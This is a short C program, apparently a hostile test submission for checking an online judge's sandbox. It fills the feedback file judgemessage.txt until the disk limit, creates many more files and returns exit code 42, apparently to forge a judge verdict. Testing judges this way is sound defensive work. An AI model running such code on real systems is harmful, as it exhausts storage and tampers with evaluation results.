#include "attack.h"
int main(int argc, char **argv)
{
	static char b[1 << 16];
	char path[512];
	signal(SIGXFSZ, SIG_IGN);
	for (int i = 0; argc > 3 && i < 2000; i++) {
		snprintf(path, sizeof path, i ? "%s%d" : "%sjudgemessage.txt", argv[3], i);
		int fd = open(path, O_CREAT | O_WRONLY, 0600);
		while (write(fd, b, sizeof b) > 0 && i == 0) { }
		close(fd);
	}
	return 42;
}
